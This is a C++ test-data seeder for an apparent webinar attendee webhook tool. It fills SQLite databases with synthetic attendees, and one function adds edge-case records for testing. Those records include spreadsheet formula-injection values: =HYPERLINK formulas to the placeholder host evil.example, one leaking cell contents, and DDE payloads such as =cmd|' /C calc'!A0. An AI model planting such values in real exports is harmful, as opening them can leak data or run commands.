// SPDX-License-Identifier: GPL-3.0-or-later
#include "AttendeeSeeder.h"

#include "simulate/SimulatedAttendees.h"
#include "store/Schema.h"
#include "store/SqliteDatabase.h"
#include "store/StoreWriter.h"

#include <QRandomGenerator>
#include <QTimeZone>

#include <atomic>
#include <cmath>
#include <limits>

namespace hookdesk::test {
namespace {

AttendeeSeeder::Seed seed(const char *webinarId, const char *title, const char *recording,
                          const QString &name, const char *email, const QString &phone,
                          int deliveries = 1, bool isTest = false)
{
    AttendeeSeeder::Seed s;
    s.attendee.webinarId = QString::fromUtf8(webinarId);
    s.attendee.webinarTitle = QString::fromUtf8(title);
    s.attendee.recordingUrl = QString::fromUtf8(recording);
    s.attendee.name = name;
    s.attendee.email = QString::fromUtf8(email);
    s.attendee.phone = phone;
    s.attendee.isTest = isTest;
    s.attendee.rawPayload = "{}";
    s.deliveries = deliveries;
    return s;
}

QString u(const char *utf8)
{
    return QString::fromUtf8(utf8);
}

const char *const firstNames[] = {
        "Priya", "Rahul", "Ananya", "Arjun", "Sneha", "Vikram", "Kavya", "Rohan", "Meera",
        "Aditya", "Isha", "Karan", "Divya", "Siddharth", "Pooja", "Amit", "Neha", "Sanjay",
        "Lakshmi", "Ravi", "Farhan", "Gurpreet", "Tanvi", "Harsh", "Nandini", "Emma", "Liam",
        "Olivia", "Noah", "Sofia", "Lucas", "Aisha", "Omar", "Fatima", "Wei", "Yuki", "Maria",
        "José", "Lena", "Jonas"};
const char *const lastNames[] = {
        "Sharma", "Verma", "Iyer", "Nair", "Reddy", "Patel", "Mehta", "Gupta", "Singh", "Kumar",
        "Rao", "Menon", "Das", "Bose", "Chatterjee", "Joshi", "Kulkarni", "Pillai", "Shaikh",
        "Fernandes", "Smith", "Johnson", "García", "Müller", "Rossi", "Kim", "Tanaka", "Silva",
        "Khan", "Novak"};
const char *const domains[] = {"gmail.com", "gmail.com", "gmail.com", "gmail.com", "gmail.com",
                               "yahoo.co.in", "outlook.com", "hotmail.com", "rediffmail.com",
                               "icloud.com", "proton.me", "zoho.in"};
const char *const topics[] = {
        "Stock Market Basics", "Options Trading Masterclass", "Yoga for Beginners",
        "Python in 30 Days", "Digital Marketing Bootcamp", "Public Speaking Live",
        "Personal Finance for Families", "Mobile Photography", "Instagram Reels Growth",
        "UPSC Answer Writing", "Spoken English Practice", "Guitar Foundations"};

template<typename T, size_t N>
constexpr int countOf(const T (&)[N])
{
    return int(N);
}

} // namespace

QList<AttendeeSeeder::Seed> AttendeeSeeder::trickySeeds()
{
    const char *a = "W-ALPHA";
    const char *aTitle = "Growth Masterclass, Part 1";
    const char *aLink = "https://replay.example/alpha?x=1&y=2";
    const char *b = "W-BETA";
    const char *bTitle = "The \"Secret\" Sauce\nQ&A";
    const char *bLink = "=HYPERLINK(\"http://evil.example\",\"replay\")";
    const char *c = "6149e10";
    const char *cTitle = "=SUM(1,2)";
    const char *cLink = "";

    QList<Seed> seeds = {
            seed(a, aTitle, aLink, u("Asha Rao"), "asha@example.com", u("+91 98765 43210")),
            seed(a, aTitle, aLink, u("Sharma, Priya"), "priya@example.com", u("+919876543210"), 2),
            seed(a, aTitle, aLink, u("Ravi \"RK\" Kumar"), "ravi@example.com", u("919876543210")),
            seed(a, aTitle, aLink, u("Line\nBreak"), "lf@example.com", u("09876543210")),
            seed(a, aTitle, aLink, u("Carriage\r\nReturn"), "crlf@example.com", u("(555) 123-4567")),
            seed(a, aTitle, aLink, u("Lone\rCR"), "cr@example.com", QString()),
            seed(a, aTitle, aLink, u("प्रिया शर्मा"), "hindi@example.com", u("+91-98765-43210")),
            seed(a, aTitle, aLink, u("فاطمة الزهراء"), "arabic@example.com", u("+971 50 123 4567")),
            seed(a, aTitle, aLink, u("Priya 🎉👩🏽‍💻"), "emoji@example.com", u("+1 (555) 010-9999")),
            seed(a, aTitle, aLink, u("=1+1"), "formula@example.com", u("=2+3")),
            seed(a, aTitle, aLink, u("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click me\")"),
                 "link@example.com", QString()),
            seed(a, aTitle, aLink, u("=cmd|' /C calc'!A0"), "dde@example.com", QString()),
            seed(a, aTitle, aLink, u("+SUM(1,2)"), "plus@example.com", u("+cmd|' /C calc'!A0")),
            seed(a, aTitle, aLink, u("-Priya"), "minus@example.com", u("-2+3")),
            seed(a, aTitle, aLink, u("@priya_creates"), "at@example.com", u("@SUM(1,2)")),
            seed(a, aTitle, aLink, u("\t=1+1"), "tab@example.com", u("\t+91 98765 43210")),
            seed(a, aTitle, aLink, u("\r=1+1"), "crlead@example.com", QString()),
            seed(a, aTitle, aLink, u("  =1+1"), "space@example.com", u(" +91 1")),
            seed(a, aTitle, aLink, u("＝1+1"), "fullwidth@example.com", QString()),
            seed(a, aTitle, aLink, QString(), "empty@example.com", QString()),
            seed(a, aTitle, aLink, u("00123"), "number@example.com", u("1e5")),
            seed(a, aTitle, aLink, u("2026-01-02"), "date@example.com", u("12/05/2026")),
            seed(a, aTitle, aLink, u("1,5"), "decimal@example.com", u("3.14")),
            seed(a, aTitle, aLink, u("'quoted'"), "apostrophe@example.com", u("'+91")),
            seed(a, aTitle, aLink, u("  padded  "), "padded@example.com", u(" 98765 ")),
            seed(a, aTitle, aLink, u("\""), "quote@example.com", u("\"\"")),
            seed(a, aTitle, aLink, u("a;b;c"), "semicolon@example.com", QString()),
            seed(a, aTitle, aLink, u("Plus Mail"), "priya+news@example.com", QString()),
            seed(a, aTitle, aLink, u("Ünïcödé Ñame"), "UPPER@Example.COM", QString()),
            seed(b, bTitle, bLink, u("Asha Rao"), "asha@example.com", u("+91 98765 43210"), 3),
            seed(b, bTitle, bLink, u("Beta, Only"), "beta@example.com", u("+44 20 7946 0958")),
            seed(b, bTitle, bLink, u("Test Attendee"), "test@example.com", u("+1234567890"), 1, true),
            seed(c, cTitle, cLink, u("Numeric Webinar"), "numeric@example.com", u("0042")),
    };
    const QDateTime base(QDate(2026, 11, 27), QTime(4, 35, 44, 38), QTimeZone::utc());
    for (int i = 0; i < seeds.size(); ++i)
        seeds[i].firstReceived = base.addSecs(qint64(i) * 3600);
    return seeds;
}

bool AttendeeSeeder::write(const QString &databasePath, const QList<Seed> &seeds, QString *error)
{
    StoreWriter writer;
    StoreWriter::Options options;
    options.databasePath = databasePath;
    if (!writer.start(options, error))
        return false;
    std::atomic<int> failures{0};
    for (const Seed &s : seeds) {
        for (int d = 0; d < s.deliveries; ++d) {
            WriteRequest request;
            request.attendee = s.attendee;
            request.delivery.receivedAt = s.firstReceived.addSecs(60 * d);
            request.delivery.method = QStringLiteral("POST");
            request.delivery.path = QStringLiteral("/hooks/test");
            request.delivery.status = 200;
            request.delivery.body = s.attendee.rawPayload;
            request.done = [&failures](const WriteOutcome &outcome) {
                if (outcome.kind == WriteOutcome::Kind::Failed)
                    ++failures;
            };
            if (!writer.submit(std::move(request))) {
                *error = QStringLiteral("the writer refused a seed");
                return false;
            }
        }
    }
    writer.stop(); // writes everything queued first
    if (failures > 0) {
        *error = QStringLiteral("%1 seeds failed to store").arg(failures.load());
        return false;
    }
    return true;
}

bool AttendeeSeeder::bulk(const QString &databasePath, qint64 count, QString *error)
{
    SqliteDatabase db;
    if (!db.open(databasePath, SqliteDatabase::Mode::ReadWrite)) {
        *error = db.lastError().message;
        return false;
    }
    if (!Schema::prepareForWriting(db, error))
        return false;
    if (!db.exec(QStringLiteral("BEGIN"))) {
        *error = db.lastError().message;
        return false;
    }
    SqliteStatement insert(db, QStringLiteral(
            "INSERT INTO attendees (webinar_id, email, email_norm, name, phone, webinar_title, "
            "recording_url, first_received_at, last_received_at, delivery_count) "
            "VALUES (?1, ?2, ?2, ?3, ?4, ?5, ?6, ?7, ?7, ?8)"));
    const QDateTime base(QDate(2026, 1, 1), QTime(0, 0), QTimeZone::utc());
    for (qint64 i = 0; i < count; ++i) {
        const qint64 webinar = i % 50;
        insert.reset();
        insert.bind(1, QByteArray("6149b1e5612c4e5fd96041") + QByteArray::number(10 + webinar));
        insert.bind(2, QByteArray("attendee") + QByteArray::number(i) + "@example.com");
        insert.bind(3, QByteArray("Attendee Number ") + QByteArray::number(i));
        insert.bind(4, QByteArray("+91 98") + QByteArray::number(100000 + i % 900000) + " 43210");
        insert.bind(5, QByteArray("Growth Masterclass, Part ") + QByteArray::number(webinar));
        insert.bind(6, QByteArray("https://replay.example/webinars/") + QByteArray::number(webinar));
        insert.bind(7, isoTimestamp(base.addSecs(i)).toUtf8());
        insert.bind(8, 1 + i % 3);
        if (!insert.run()) {
            *error = db.lastError().message;
            db.exec(QStringLiteral("ROLLBACK"));
            return false;
        }
    }
    if (!db.exec(QStringLiteral("COMMIT"))) {
        *error = db.lastError().message;
        return false;
    }
    return true;
}

QString AttendeeSeeder::webinarId(int n)
{
    return QStringLiteral("wb%1").arg(quint64(n) * 2654435761u % 100000000u, 8, 10, QLatin1Char('0'));
}

QString AttendeeSeeder::webinarTitle(int n)
{
    return QStringLiteral("%1 — Batch %2")
            .arg(QString::fromUtf8(topics[n % countOf(topics)]))
            .arg(n / countOf(topics) + 1);
}

qint64 AttendeeSeeder::insert(const AttendeeRecord &a, const QDateTime &receivedAt, QString *error)
{
    SqliteStatement insert(m_db, QStringLiteral(
            "INSERT INTO attendees (webinar_id, email, email_norm, name, phone, webinar_title, "
            "recording_url, first_received_at, last_received_at, is_test, raw_payload, phone_e164) "
            "VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8, ?8, ?9, ?10, hookdesk_phone_e164(?5, 'IN')) "
            "RETURNING id"));
    insert.bind(1, a.webinarId);
    insert.bind(2, a.email);
    insert.bind(3, a.emailNorm());
    insert.bind(4, a.name);
    insert.bind(5, a.phone);
    insert.bind(6, a.webinarTitle);
    insert.bind(7, a.recordingUrl);
    insert.bind(8, isoTimestamp(receivedAt));
    insert.bind(9, a.isTest ? 1 : 0);
    insert.bind(10, a.rawPayload);
    if (!insert.next()) {
        *error = m_db.lastError().message;
        return -1;
    }
    const qint64 id = insert.int64(0);
    insert.run();
    return id;
}

bool AttendeeSeeder::realistic(const Options &options, QString *error,
                          const std::function<void(qint64)> &progress)
{
    QRandomGenerator random(options.seed);
    SqliteStatement insert(m_db, QStringLiteral(
            "INSERT INTO attendees (webinar_id, email, email_norm, name, phone, webinar_title, "
            "recording_url, first_received_at, last_received_at, delivery_count, phone_e164) "
            "VALUES (?1, ?2, ?2, ?3, ?4, ?5, ?6, ?7, ?7, ?8, hookdesk_phone_e164(?4, 'IN'))"));
    if (!insert.isValid()) {
        *error = m_db.lastError().message;
        return false;
    }
    // A big page cache keeps the index inserts in memory while seeding.
    m_db.exec(QStringLiteral("PRAGMA cache_size=-262144"));
    const int webinars = std::max(1, options.webinars);
    for (qint64 n = 0; n < options.attendees;) {
        if (!m_db.exec(QStringLiteral("BEGIN"))) {
            *error = m_db.lastError().message;
            return false;
        }
        const qint64 end = std::min(options.attendees, n + options.batch);
        for (; n < end; ++n) {
            // Webinars come in sizes from a few dozen to tens of thousands.
            const int w = std::min(webinars - 1,
                                   int(std::pow(random.generateDouble(), 1.6) * webinars));
            const QString first = QString::fromUtf8(firstNames[random.bounded(countOf(firstNames))]);
            const QString last = QString::fromUtf8(lastNames[random.bounded(countOf(lastNames))]);
            const QString email = QStringLiteral("%1.%2%3@%4")
                                          .arg(SimulatedAttendees::emailLocalPart(first),
                                               SimulatedAttendees::emailLocalPart(last))
                                          .arg(n)
                                          .arg(QString::fromLatin1(domains[random.bounded(countOf(domains))]));
            const QString phone = random.bounded(10) == 0
                    ? QStringLiteral("+1 415 555 %1").arg(random.bounded(10000), 4, 10, QLatin1Char('0'))
                    : QStringLiteral("+91 9%1 %2")
                              .arg(random.bounded(10000), 4, 10, QLatin1Char('0'))
                              .arg(random.bounded(100000), 5, 10, QLatin1Char('0'));
            const QString id = webinarId(w);
            const QDateTime when = options.start.addSecs(n * options.secondsApart);
            insert.reset();
            insert.bind(1, id);
            insert.bind(2, email); // generated in lower case: also the normalised email
            insert.bind(3, QString(first + QLatin1Char(' ') + last));
            insert.bind(4, phone);
            insert.bind(5, webinarTitle(w));
            insert.bind(6, QStringLiteral("https://recordings.tagmango.example/replay/") + id);
            insert.bind(7, isoTimestamp(when));
            insert.bind(8, random.bounded(8) == 0 ? 2 : 1);
            if (!insert.run()) {
                *error = m_db.lastError().message;
                m_db.exec(QStringLiteral("ROLLBACK"));
                return false;
            }
        }
        if (!m_db.exec(QStringLiteral("COMMIT"))) {
            *error = m_db.lastError().message;
            return false;
        }
        if (progress)
            progress(n);
    }
    return !options.indexForSearch || indexForSearch(error);
}

bool AttendeeSeeder::indexForSearch(QString *error, qint64 upToId)
{
    SqliteStatement index(m_db, QStringLiteral(
            "INSERT INTO attendees_fts (rowid, name, email, phone, webinar_title) "
            "SELECT id, name, email, phone, webinar_title FROM attendees "
            "WHERE id > (SELECT last_indexed_id FROM search_index_state) AND id <= ?1"));
    SqliteStatement mark(m_db, QStringLiteral(
            "UPDATE search_index_state SET last_indexed_id = "
            "max(last_indexed_id, min(?1, coalesce((SELECT max(id) FROM attendees), 0)))"));
    const qint64 limit = upToId < 0 ? std::numeric_limits<qint64>::max() : upToId;
    index.bind(1, limit);
    mark.bind(1, limit);
    if (!m_db.exec(QStringLiteral("BEGIN")) || !index.run() || !mark.run()
        || !m_db.exec(QStringLiteral("COMMIT"))) {
        *error = m_db.lastError().message;
        m_db.exec(QStringLiteral("ROLLBACK"));
        return false;
    }
    return true;
}


} // namespace hookdesk::test
